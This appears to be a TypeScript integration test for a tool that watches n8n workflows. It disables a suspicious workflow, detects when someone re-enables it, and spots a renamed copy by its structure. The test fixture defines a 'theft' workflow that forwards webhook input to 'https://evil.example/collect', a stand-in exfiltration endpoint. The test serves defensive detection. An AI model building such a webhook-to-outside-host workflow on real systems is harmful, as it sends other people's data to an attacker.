import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { setTimeout as delay } from 'node:timers/promises';

import { Secret } from '../../domain/secret.ts';
import { copyLikeness } from '../../domain/structure.ts';
import { chain, http, webhook } from '../../testing/n8n/nodes.ts';
import { startRealN8n } from '../../testing/n8n/real-n8n.ts';
import { testFingerprint } from '../../testing/n8n/sample-nodes.ts';
import { guardedFetch } from '../guarded-fetch.ts';
import { N8n } from './n8n.ts';

const never = new AbortController().signal;

/** A theft, or its copy with other names and another address. */
const theft = (name: string, path: string) =>
  chain(name, [webhook(path), http('https://evil.example/collect')]);

describe('what comes back on a real n8n', () => {
  it('is seen to be on with who and when, and its copy is known by what it is made of', async () => {
    const n8n = await startRealN8n();
    try {
      const { baseUrl, api } = n8n;
      const platform = new N8n({
        baseUrl,
        token: new Secret(await n8n.apiKey()),
        fetch: guardedFetch({ platform: 'n8n', origin: baseUrl, isPrivate: true }),
        now: () => new Date(),
        wait: async (ms, signal) => delay(ms, undefined, { signal }),
        fingerprint: testFingerprint,
      });
      const { id: workflow } = await api.createWorkflow(theft('Cleanup', 'cleanup'));
      await api.publish(workflow);
      const { memo, structures = [] } = await platform.observe(workflow, never);
      const { at: acceptedAt } = await platform.disable(workflow, never);
      assert.equal((await platform.observe(workflow, never)).lastSwitch, undefined);

      await delay(1_000);
      await api.publish(workflow);
      const { id: copy } = await api.createWorkflow(theft('Newsletter', 'newsletter'));
      const { id: other } = await api.createWorkflow(chain('Other', [webhook('other')]));

      const [reading] = await platform.checkDisabled([{ workflow, memo, acceptedAt }], never);
      assert.ok(reading?.proofs.some(({ finding }) => finding === 'contradicts'));
      const { lastSwitch } = await platform.observe(workflow, never);
      const inventory = await platform.takeInventory(never);
      assert.ok(inventory.users.some(({ id }) => id === lastSwitch?.user));
      assert.ok(lastSwitch && lastSwitch.at > acceptedAt);
      const made = (id: string) =>
        inventory.workflows.find((one) => one.id === id)?.structures ?? [];
      assert.equal(copyLikeness(structures, made(copy)), 1);
      assert.equal(copyLikeness(structures, made(other)), 0);
    } finally {
      await n8n.stop();
    }
  });
});
